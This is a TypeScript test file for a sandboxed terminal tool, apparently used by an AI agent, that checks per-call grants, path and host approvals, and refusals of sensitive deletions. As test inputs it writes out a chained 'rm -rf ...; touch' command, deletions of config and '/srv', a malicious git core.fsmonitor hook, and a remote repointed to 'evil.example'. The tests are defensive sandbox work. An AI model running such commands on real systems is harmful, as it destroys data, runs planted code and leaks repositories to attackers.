// Commands with and without a grant, through the real tool and a real sandbox: a call gets what its question says, and the
// next one has nothing of it.

import assert from "node:assert/strict";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { noGrant } from "../../src/core/grant.ts";
import { openJobs } from "../../src/host/jobs/jobs.ts";
import type { Requester } from "../../src/core/requester.ts";
import { aToolContext } from "../../src/testing/samples.ts";
import { terminalTools } from "../../src/tools/terminal/index.ts";
import { aVet, makeRoom, withoutSandbox } from "../fakes/room.ts";
import { atEnd } from "../process/stage.ts";

const settings = { approvals: "dangerous", hosts: [], network: false, outside: false, allowRoot: false } as const;

function openTerminal(t: TestContext) {
  const room = makeRoom({ sandbox: "auto", in: homedir() });
  const jobs = openJobs({ folder: join(room.home, "jobs") });
  atEnd(t, async () => {
    await jobs.endAll("the test is over");
    room.remove();
  });
  const { sandbox, workspace, files, home, userHome } = room;
  const environment = { PATH: "/usr/local/bin:/usr/bin:/bin" };
  const places = { workspace, files, home, userHome };
  const [tool = assert.fail()] = terminalTools({ ...settings, ...places, sandbox, jobs, environment });
  const docs = join(userHome, "docs");
  mkdirSync(docs, { recursive: true });
  writeFileSync(join(docs, "notes.txt"), "outside notes");
  let n = 0;
  const said = async (command: string, grant = noGrant, more: object = {}): Promise<string> => {
    const result = await tool.run({ command, ...more }, aToolContext(`t1:${n++}:c`, { grant }));
    return result.type === "ok" ? String(result.output) : result.why;
  };
  const vet = async (command: string, more: object = {}, requester: Requester = aVet().requester) =>
    (await tool.vet?.({ command, ...more }, { ...aVet(), requester })) ?? assert.fail();
  const asked = async (command: string, more: object = {}) => {
    const verdict = await vet(command, more);
    return verdict.type === "approve" ? verdict : assert.fail(JSON.stringify(verdict));
  };
  return { ...room, docs, said, vet, asked };
}

const skip = await withoutSandbox();

test("a path outside is read by the approved call, and by no other", { skip }, async (t) => {
  const { docs, said, vet, asked } = openTerminal(t);
  const command = `cat ${docs}/notes.txt`;
  const { grant, effects, subject } = await asked(command);
  assert.deepEqual(grant?.paths, [{ path: join(docs, "notes.txt"), access: "read" }]);
  assert.match(effects?.[0] ?? "", /^Can read .*notes\.txt/);
  assert.match(subject ?? "", /^commands that read anything in /);
  assert.match(await said(command, grant), /outside notes/);
  const refused = await said(command);
  assert.doesNotMatch(refused, /outside notes/);
  assert.match(refused, /"paths": \[\{"path"/, "the model reads how to ask for more");
  // Asked for in so many words, it is the same.
  assert.deepEqual((await asked("sh x", { paths: [{ path: docs, access: "read" }] })).grant?.paths, [
    { path: docs, access: "read" },
  ]);
  assert.equal((await vet("cat x", { paths: [{ path: "/run", access: "write" }] })).type, "refuse");
});

test("what is deleted outside is said first, and only its folder is open", { skip }, async (t) => {
  const { docs, userHome, said, asked } = openTerminal(t);
  const old = join(docs, "old");
  mkdirSync(old);
  const beside = join(userHome, "beside");
  mkdirSync(beside);
  const command = `rm -rf ${old}; touch ${beside}/planted`;
  const { grant, effects, subject } = await asked(`rm -rf ${old}`);
  assert.deepEqual(effects, [`Deletes ${old}.`, `Can change or delete anything in ${docs}.`]);
  assert.equal(subject, `commands that change or delete anything in ${docs}`);
  await said(command, grant);
  assert.equal(existsSync(old), false);
  assert.equal(existsSync(join(beside, "planted")), false);
});

test("the gateway's own folder and what holds everything are refused", { skip }, async (t) => {
  const { home, userHome, vet } = openTerminal(t);
  for (const command of [
    `cat ${home}/../home/config.yaml; rm ${home}/config.yaml`,
    `rm -rf ${userHome}`,
    "rm -rf /srv",
  ]) {
    const verdict = await vet(command);
    assert.equal(verdict.type === "run", false, command);
    if (verdict.type === "approve") assert.ok(!JSON.stringify(verdict.grant).includes(`"${home}`), command);
  }
  writeFileSync(join(home, "config.yaml"), "");
  assert.equal((await vet(`cat ${home}/config.yaml`)).type, "refuse");
});

test("a call with a path has an empty HOME, other calls keep theirs, and /tmp is a folder to run in", {
  skip,
}, async (t) => {
  const { docs, said, asked } = openTerminal(t);
  await said("echo planted > ~/left; mkdir -p $TMPDIR/mine");
  // It is not kept in /tmp itself where a program of PATH lies below that, as in a clone there.
  const tmp = /^(\/(?:var\/)?tmp)$/m.exec(await said("echo $TMPDIR"))?.[1] ?? assert.fail("there is no TMPDIR");
  if (tmp === "/tmp") assert.match(await said("pwd", noGrant, { cwd: "/tmp/mine" }), /\/tmp\/mine/);
  assert.match(await said("cat ~/left"), /planted/);
  const { grant } = await asked(`ls ${docs}`);
  assert.doesNotMatch(await said("cat ~/left", grant), /planted/);
});

test("remotes are read inside the sandbox, and what they name is what is asked for", { skip }, async (t) => {
  const { said, asked, workspace, vet } = openTerminal(t);
  await said("git init -q . && git remote add origin git@github.com:ann/p.git");
  // A program that git would run where it reads this configuration.
  await said("printf '#!/bin/sh\\ntouch %s/ran\\n' $PWD > f.sh; chmod +x f.sh; git config core.fsmonitor ./f.sh");
  const { grant, effects, subject } = await asked("git push origin main");
  assert.deepEqual(grant?.hosts, ["github.com:22"]);
  assert.deepEqual(grant?.credentials, [{ kind: "ssh-agent", host: "github.com" }]);
  assert.match(effects?.[0] ?? "", /^Publishes to github\.com with your SSH key; anything in the workspace can use it/);
  assert.equal(subject, null);
  await said("git remote set-url origin https://evil.example/x");
  assert.match((await asked("git push")).effects?.[0] ?? "", /evil\.example with your git password/);
  assert.equal((await vet("git status")).type, "run");
  assert.ok(existsSync(workspace));
});

test("what cannot work inside is refused with the line to type", { skip }, async (t) => {
  const { vet } = openTerminal(t);
  for (const [command, more] of [
    ["sudo apt install jq", {}],
    ["docker ps", {}],
    ["make deploy", { outside: true }],
  ] as const) {
    const verdict = await vet(command, more);
    assert.ok(verdict.type === "refuse" && verdict.why.includes(`\n${command}\n`), JSON.stringify(verdict));
  }
});
